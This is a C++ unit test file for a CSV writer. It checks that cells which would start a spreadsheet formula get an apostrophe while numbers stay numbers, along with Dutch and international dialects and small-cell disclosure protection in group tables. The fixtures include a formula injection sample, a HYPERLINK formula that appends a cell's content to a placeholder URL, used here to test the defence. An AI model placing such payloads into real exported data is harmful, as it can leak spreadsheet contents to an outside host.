// The one CSV writer: quoting, the two dialects, and text that a spreadsheet would run as a
// formula (OWASP "CSV injection"), while numbers, also negative ones, stay numbers.
#include "core/csv/CsvWriter.h"
#include "core/disclosure/GroupCsv.h"
#include "core/disclosure/GroupTable.h"
#include "core/disclosure/Publication.h"

#include <catch2/catch.hpp>

using km::CsvDialect;
using km::CsvWriter;

TEST_CASE("csv writer: text that starts a formula gets an apostrophe, numbers do not", "[csv]")
{
    CsvWriter csv;
    csv.text("=HYPERLINK(\"http://x\"&A1,\"klik\")").text("+31").text("-1").text("@SUM(A1)").text("\tx").text("\ry")
        .text("a-b").text("<5").endRow();
    // Quoted where a cell holds a quote, a comma or a line break; the apostrophe inside the quotes.
    CHECK(csv.str() == "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"klik\"\")\",'+31,'-1,'@SUM(A1),'\tx,\"'\ry\",a-b,<5\n");

    CsvWriter numbers;
    numbers.integer(-3).number(-2.5, 1).shortest(-0.125, 2).exact(-1e-5).endRow();
    CHECK(numbers.str() == "-3,-2.5,-0.13,-1e-05\n");
}

TEST_CASE("csv writer: the spreadsheet dialects", "[csv]")
{
    CsvWriter nl(CsvDialect::spreadsheet(km::CsvConvention::SemicolonDecimalComma));
    nl.text("Nieuw geweld").integer(12).number(4.5, 2).text("1,3 – 15,1").endRow();
    CHECK(nl.str() == "\xEF\xBB\xBFNieuw geweld;12;4,50;\"1,3 – 15,1\"\r\n");
    CsvWriter international(CsvDialect::spreadsheet(km::CsvConvention::CommaDecimalPoint));
    international.text("a;b").integer(12).number(4.5, 2).endRow();
    CHECK(international.str() == "\xEF\xBB\xBF\"a;b\",12,4.50\r\n");
    CHECK(km::CsvDialect::conventionNamed("nl") == km::CsvConvention::SemicolonDecimalComma);
    CHECK(km::CsvDialect::conventionNamed("int") == km::CsvConvention::CommaDecimalPoint);
    CHECK_FALSE(km::CsvDialect::conventionNamed("excel"));
}

TEST_CASE("csv writer: the program's own files read back without the apostrophe", "[csv]")
{
    CHECK(CsvWriter::restored("'-1") == "-1");
    CHECK(CsvWriter::restored("'=A1") == "=A1");
    CHECK(CsvWriter::restored("'abc") == "'abc");   // not one the writer made
    CHECK(CsvWriter::restored("-1") == "-1");
}

TEST_CASE("group csv: a cohort named as a formula is text, the selection and protection are header rows", "[csv][disclosure]")
{
    const std::string cohort = "=HYPERLINK(\"http://x\"&A1,\"klik\")";
    km::IndicatorSet set;
    set.cases = 44;
    set.proportions.push_back(km::Proportion::make("regie.casusregie", 2, 44, 0));
    set.proportions.push_back(km::Proportion::make("regie.afstemming", 10, 20, 0));
    const std::vector<km::GroupTable> tables = km::Publication::of({set}, km::SmallCellPolicy{5}).selections[0].tables;
    const std::string csv = km::GroupCsv::write({{cohort, &tables[0]}}, "cohort " + cohort, "afgeschermd (onder 5)",
                                                km::Language::Dutch,
                                                CsvDialect::spreadsheet(km::CsvConvention::SemicolonDecimalComma));
    CHECK(csv.rfind("\xEF\xBB\xBFselectie;\"cohort =HYPERLINK(", 0) == 0);
    CHECK(csv.find("\r\nafscherming;afgeschermd (onder 5)\r\n\r\nselectie;groep;id;") != std::string::npos);
    CHECK(csv.find("\r\n=") == std::string::npos);
    CHECK(csv.find(";=") == std::string::npos);
    CHECK(csv.find("\r\n\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"klik\"\")\";regie;regie.casusregie;Casusregie belegd;<5;44;0;;;;")
          != std::string::npos);
    CHECK(csv.find(";2;44;") == std::string::npos);
    // 10/20 = 50%, Wilson [29.93, 70.07]: numbers with a decimal comma in their own cells.
    CHECK(csv.find(";10;20;0;50,00;29,93;70,07;;;;;;;0\r\n") != std::string::npos);
}

TEST_CASE("group table: indicators of a group the labels do not know are kept, after the known ones", "[disclosure]")
{
    const std::vector<km::GroupTable> tables =
        km::GroupTable::build({km::PublishedProportion::unprotected(km::Proportion::make("nieuwgroep.x", 10, 20, 0)),
                               km::PublishedProportion::unprotected(km::Proportion::make("regie.casusregie", 10, 20, 0))},
                              {});
    REQUIRE(tables.size() == 2);
    CHECK(tables[0].group == "regie");
    CHECK(tables[1].group == "nieuwgroep");
    REQUIRE(tables[1].proportions.size() == 1);
    CHECK(tables[1].proportions[0].value.id == "nieuwgroep.x");
}
